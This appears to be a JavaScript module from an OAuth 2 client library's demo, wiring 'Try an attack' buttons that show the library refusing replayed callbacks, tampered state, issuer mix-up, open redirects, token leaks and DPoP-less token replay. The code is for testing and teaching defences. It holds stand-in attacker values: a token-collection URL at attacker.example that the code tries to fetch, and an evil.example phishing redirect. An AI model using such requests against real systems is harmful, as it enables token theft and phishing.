// "Try an attack": each button feeds the library what an attacker would, and the panel shows
// the typed error it refused with, what that means, and the security events it emitted.
// Secrets involved (a spent callback URL, a state) stay in the attacks' closures: never on
// screen, never in storage.
import { byId, el } from './dom.js';
import { describe } from './errors.js';
import { explainError } from './messages.js';

/** Where a forged callback says it comes from: not the configured issuer. */
const FOREIGN_ISSUER = 'https://attacker.example';
/** An open-redirect target: another site, written as a protocol-relative path. */
const EVIL_RETURN_TO = '//evil.example/phish';
/** Where an attacker would like the token sent. */
export const FOREIGN_API = 'https://attacker.example/collect';

/** The provider (not the library) refused what the attack sent: an HTTP status. */
class ProviderRefusal extends Error {
  /** @param {number} status */
  constructor(status) {
    super(`HTTP ${status}`);
    this.status = status;
  }
}

/**
 * An attack: its title, and the attempt. The attempt resolves to a sentence when it cannot
 * run yet (e.g. "log in first"), and throws what the library refused it with.
 * @typedef {[string, () => Promise<string | void> | string | void]} Attack
 */

/**
 * A callback URL for the redirect URI, as an attacker would craft it.
 * @param {string} redirectUri
 * @param {Record<string, string>} params
 */
function craftedCallback(redirectUri, params) {
  const url = new URL(redirectUri);
  for (const [name, value] of Object.entries(params)) url.searchParams.set(name, value);
  return url.href;
}

/**
 * The OAuth 2 attacks, by button id.
 * @param {() => import('/pkg/dist/index.js').Client} client
 * @param {{ issuer: string, redirectUri: string, dpop?: boolean }} config
 * @param {() => string | undefined} lastCallback the callback URL of this tab's login
 * @returns {Record<string, Attack>}
 */
export function oauth2Attacks(client, config, lastCallback) {
  /** A fresh pending login (as the user's own login would leave) and its state. */
  const pendingState = () => new URL(client().authorizationUrl({ returnTo: '/' })).searchParams.get('state') ?? '';
  return {
    'attack-replay': ['Replay the last callback URL', () => {
      const url = lastCallback();
      if (!url) return 'Log in first in this tab: the demo keeps the callback URL of this tab\'s login in memory only.';
      client().validateCallback(url);
    }],
    'attack-state': ['Tamper with state', () => {
      const state = pendingState();
      const tampered = `${state.slice(0, -1)}${state.endsWith('A') ? 'B' : 'A'}`;
      client().validateCallback(craftedCallback(config.redirectUri, { code: 'code-from-the-attacker', state: tampered, iss: config.issuer }));
    }],
    'attack-iss': ['Send a foreign iss (mix-up)', () => {
      const state = pendingState();
      client().validateCallback(craftedCallback(config.redirectUri, { code: 'code-from-the-attacker', state, iss: FOREIGN_ISSUER }));
    }],
    'attack-return-to': ['Ask for an open-redirect returnTo', () => {
      client().authorizationUrl({ returnTo: EVIL_RETURN_TO });
    }],
    'attack-origin': ['Send the token to another origin', async () => {
      await client().fetch(FOREIGN_API);
    }],
    'attack-dpop': ['Replay the access token without its DPoP proof', async () => {
      if (!config.dpop) return 'Turn on DPoP first (session panel).';
      // What a thief would do with a copied token: present it without a proof of the key.
      const token = await client().getAccessToken();
      const response = await fetch(new URL('/me', config.issuer), { headers: { Authorization: `DPoP ${token}` } });
      if (!response.ok) throw new ProviderRefusal(response.status);
    }],
  };
}

/**
 * Wires attack buttons to the #attack-results list.
 * @param {object} options
 * @param {Record<string, Attack>} options.attacks by button id
 * @param {() => number} options.securityCount how many security events the client emitted so far
 * @param {(from: number) => { code: string, phase?: string }[]} options.securitySince events from index `from`
 * @param {(kind: string, text: string) => void} options.log adds a line to the timeline
 */
export function wireAttacks({ attacks, securityCount, securitySince, log }) {
  const results = byId('attack-results');
  for (const [id, [title, attempt]] of Object.entries(attacks)) {
    byId(id).addEventListener('click', async () => {
      const before = securityCount();
      let outcome = null;
      try {
        const notReady = await attempt();
        if (notReady) {
          results.prepend(el('li', { className: 'failed', text: notReady }));
          return;
        }
      } catch (error) {
        outcome = error instanceof ProviderRefusal
          ? { code: error.message, details: 'The provider refused the token: without a fresh proof signed by this browser\'s non-extractable key, a copied DPoP-bound token is useless.' }
          : describe(error);
      }
      // Security events go out with the error; give their listeners a turn anyway.
      await Promise.resolve();
      const events = securitySince(before);
      const item = el('li');
      item.dataset.attack = id;
      if (outcome === null) {
        item.className = 'failed';
        item.append(el('span', { className: 'title', text: `${title}: NOT refused` }));
        log('attack', `${title}: not refused!`);
      } else {
        item.dataset.code = outcome.code;
        const known = outcome.code !== 'unexpected' && !outcome.code.startsWith('HTTP ');
        item.append(
          el('span', { className: 'title', text: `${title}: refused with ` }, el('code', { text: outcome.code })),
          el('span', { className: 'why', text: known ? explainError(outcome.code).sentence : outcome.details }),
          el('span', { className: 'event', text: events.length
            ? `Security event: ${events.map((e) => `${e.code}${e.phase ? ` (${e.phase})` : ''}`).join(', ')}`
            : 'Security event: none emitted.' }),
        );
        log('attack', `${title}: refused (${outcome.code}).`);
      }
      results.prepend(item);
    });
  }
}
